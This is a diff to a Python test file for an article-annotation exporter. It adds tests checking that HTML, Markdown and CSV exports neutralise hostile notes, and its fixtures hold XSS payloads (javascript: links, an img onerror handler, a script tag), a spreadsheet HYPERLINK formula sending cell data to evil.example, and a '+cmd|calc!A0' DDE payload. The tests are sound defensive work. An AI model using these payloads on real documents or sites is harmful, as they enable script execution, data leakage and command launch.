@@ -7,6 +7,7 @@ import errno
 import io
 import json
 import os
+import re
 import shutil
 from pathlib import Path
 
@@ -56,11 +57,67 @@ def test_markdown(article_path: Path) -> None:
     assert "**Summary:** 1 supported · 2 uncertain · 1 advertising" in text
     assert "- [PMID 33918360](<https://pubmed.ncbi.nlm.nih.gov/33918360/>)" in text
     assert "- [DOI 10.1/x](<https://doi.org/10.1/x>)" in text
-    assert AWKWARD in text  # the note's Markdown is kept as written
+    # The note's Markdown is kept as written, its raw HTML shown as text.
+    assert AWKWARD.replace("<tag>", "&lt;tag>") in text
     assert "## Lost their place" in text and "> Gone sentence here" in text
     assert "<span" not in text and "<div" not in text  # no stray HTML of ours
     order = [text.index(q) for q in ("A 2021 review", "Research has shown", "Order now")]
     assert order == sorted(order)
+
+
+HOSTILE_NOTE = ("[x](javascript:alert(1)) [y](<data:text/html,hi>) ![i](http://127.0.0.1:9/p.png)"
+                " <img src=x onerror=alert(2)> <script>alert(3)</script> <https://example.org/ok>"
+                "\n\n[ref]: javascript:alert(4)\n\nSee [the trial](https://doi.org/10.1/t).")
+HOSTILE_SOURCES = ("javascript:alert(12)", "data:text/html,hi", " https://x.org/a",
+                   "https://doi.org/10.1/x")
+
+
+def hostile_model(article_path: Path):
+    article = load_article(article_path)
+    claims = find_claims(article)
+    c = claims[3]
+    notes = [annotation_for_span(article.text, c.start, c.end, label="advertising",
+                                 note=HOSTILE_NOTE, sources=HOSTILE_SOURCES),
+             annotation_for_span(article.text, claims[4].start, claims[4].end,
+                                 note='=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+             annotation_for_span(article.text, claims[5].start, claims[5].end,
+                                 note="+cmd|calc!A0", label="uncertain")]
+    return build_export_model(article, notes, len(claims))
+
+
+def test_html_export_of_imported_notes_runs_and_fetches_nothing(article_path: Path) -> None:
+    import re
+
+    text = export_text(hostile_model(article_path), "html")
+    assert "<script" not in text and "onerror" not in text and "<img" not in text
+    hrefs = re.findall(r'href="([^"]*)"', text)
+    assert hrefs and all(h.startswith("https://") for h in hrefs), hrefs
+    assert "https://doi.org/10.1/t" in hrefs and "https://doi.org/10.1/x" in hrefs
+    assert "javascript:alert(12) (not a recognised source)" in text
+    assert re.search(r"\bsrc=", text) is None
+
+
+def test_markdown_export_of_imported_notes_runs_and_fetches_nothing(article_path: Path) -> None:
+    import markdown
+
+    text = export_text(hostile_model(article_path), "md")
+    rendered = markdown.markdown(text)
+    assert "<script" not in rendered and "<img" not in rendered
+    assert re.search(r"<[^>]*onerror", rendered) is None  # shown as text, not a tag
+    assert "javascript:" not in " ".join(re.findall(r'href="([^"]*)"', rendered))
+    assert "data:" not in " ".join(re.findall(r'href="([^"]*)"', rendered))
+    assert '<a href="https://doi.org/10.1/t">the trial</a>' in rendered
+    assert '<a href="https://example.org/ok">' in rendered  # an autolink stays a link
+    assert "- javascript:alert\\(12\\) (not a recognised source)" in text
+
+
+def test_csv_cells_never_start_a_formula(article_path: Path) -> None:
+    rows = list(csv.DictReader(io.StringIO(export_text(hostile_model(article_path), "csv"),
+                                           newline="")))
+    notes = [r["note"] for r in rows]
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in notes
+    assert "'+cmd|calc!A0" in notes
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
 
 
 def test_csv_parses_back(article_path: Path) -> None:
